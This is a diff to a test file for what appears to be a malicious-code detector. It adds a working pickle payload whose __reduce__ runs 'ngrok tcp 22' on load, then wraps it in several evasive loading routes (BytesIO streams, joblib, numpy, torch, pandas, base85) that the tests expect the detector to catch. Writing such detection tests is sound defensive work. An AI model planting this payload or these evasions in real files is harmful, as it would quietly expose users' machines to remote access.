@@ -302,6 +302,63 @@ def test_honest_tables_items_and_pairs_are_left_alone(what, cell):
     assert _cell_signatures(cell) == set(), what
 
 
+class _Reduce:
+    """A pickle that runs ``os.system("ngrok tcp 22")`` as it loads."""
+
+    def __reduce__(self):
+        return (os.system, ("ngrok tcp 22",))
+
+
+def _payload() -> bytes:
+    import pickle
+
+    return pickle.dumps(_Reduce(), protocol=4)
+
+
+def _streamed_pickles() -> list[tuple[str, str]]:
+    import base64
+
+    data = _payload()
+    return [
+        ("pickle.load of a BytesIO", "import pickle, io\npickle.load(io.BytesIO(%r))" % data),
+        ("an Unpickler over a BytesIO", "import pickle, io\npickle.Unpickler(io.BytesIO(%r)).load()"
+         % data),
+        ("joblib.load of a BytesIO", "import joblib, io\njoblib.load(io.BytesIO(%r))" % data),
+        ("numpy.load with pickles allowed", "import numpy as np, io\n"
+                                            "np.load(io.BytesIO(%r), allow_pickle=True)" % data),
+        ("torch.load of a BytesIO", "import torch, io\ntorch.load(io.BytesIO(%r), weights_only=False)"
+         % data),
+        ("pandas.read_pickle", "import pandas as pd, io\npd.read_pickle(io.BytesIO(%r))" % data),
+        ("a base85 pickle", "import pickle, base64\npickle.loads(base64.b85decode(%r))"
+         % base64.b85encode(data)),
+    ]
+
+
+@pytest.mark.parametrize("what, cell", _streamed_pickles(), ids=[p[0] for p in _streamed_pickles()])
+def test_a_pickle_loaded_from_a_stream_or_base85_is_refused(what, cell):
+    """Was missed: only ``pickle.loads`` of a constant was read (and base64, 32, 16, not 85).
+    Fixed: an unpickler reading ``io.BytesIO(constant)`` (pickle.load, Unpickler, joblib,
+    numpy, torch, pandas) reads that constant; base85 and ascii85 fold."""
+    from tests.test_redteam_evasions import _cell_signatures
+
+    assert "proxy-known-tool" in _cell_signatures(cell), what
+
+
+def test_honest_data_loaded_from_a_stream_is_left_alone():
+    import pickle
+
+    from tests.test_redteam_evasions import _cell_signatures
+
+    data = pickle.dumps({"labels": ["ngrok tcp 22", "benign"], "weights": [0.5] * 100})
+    npy = b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }" \
+        + b" " * 57 + b"\n" + bytes(16)
+    for cell in ("import pickle, io\nstate = pickle.load(io.BytesIO(%r))" % data,
+                 "import numpy as np, io\na = np.load(io.BytesIO(%r))" % npy,
+                 "import pandas as pd, io\ndf = pd.read_pickle(io.BytesIO(%r))" % data,
+                 "import io\nbuf = io.BytesIO(b'ngrok tcp 22')\nprint(buf.read())"):
+        assert _cell_signatures(cell) == set(), cell
+
+
 @pytest.mark.xfail(strict=True, reason="the cell check (detect/cells.py) follows a runner through "
                    "a name, a table assigned whole ({...}, [...], dict(...)), a default "
                    "argument and a decorator; not through these containers, scopes and calls, "
